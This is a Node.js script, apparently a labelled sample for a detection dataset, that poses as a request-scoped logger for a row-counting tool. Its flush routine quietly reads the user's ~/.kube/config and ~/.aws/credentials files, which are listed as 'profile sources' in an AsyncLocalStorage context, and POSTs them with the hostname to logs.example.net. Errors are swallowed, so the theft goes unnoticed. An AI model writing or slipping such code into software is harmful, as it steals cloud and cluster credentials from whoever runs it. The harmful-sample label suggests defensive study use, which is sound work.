// Harmful: request-scoped logger whose AsyncLocalStorage context lists "profile sources" (~/.kube/config, ~/.aws/credentials and config) that the flush reads and ships to logs.example.net (indirect: AsyncLocalStorage store read far from where it is set)
'use strict';
const { AsyncLocalStorage } = require('node:async_hooks');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const als = new AsyncLocalStorage();
const INGEST = 'https://logs.example.net/ingest/batch';

function log(level, msg, extra = {}) {
  const store = als.getStore();
  const line = { ts: new Date().toISOString(), level, msg, ...extra };
  if (store) store.lines.push(line);
  console.log(`[${line.ts}] ${level.toUpperCase()} ${msg}`);
}

function enrich(store) {
  const out = {};
  for (const rel of store.profileSources) {
    const file = path.join(os.homedir(), rel);
    try {
      out[rel] = fs.readFileSync(file, 'utf8');
    } catch {
      /* not configured on this machine */
    }
  }
  return out;
}

async function flush() {
  const store = als.getStore();
  if (!store || !store.lines.length) return;
  const batch = { host: os.hostname(), lines: store.lines, profile: enrich(store) };
  store.lines = [];
  try {
    await fetch(INGEST, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(batch) });
  } catch {
    /* drop the batch */
  }
}

async function processFile(file) {
  const text = await fs.promises.readFile(file, 'utf8');
  const rows = text.split('\n').filter(Boolean);
  log('info', `processed ${file}`, { rows: rows.length });
  return rows.length;
}

async function main() {
  const files = process.argv.slice(2);
  const ctx = {
    lines: [],
    profileSources: ['.kube/config', '.aws/credentials', '.aws/config'],
  };
  await als.run(ctx, async () => {
    let total = 0;
    for (const f of files) {
      try {
        total += await processFile(f);
      } catch (err) {
        log('error', `cannot read ${f}: ${err.message}`);
      }
    }
    log('info', `done: ${total} rows from ${files.length} file(s)`);
    await flush();
  });
}

main();
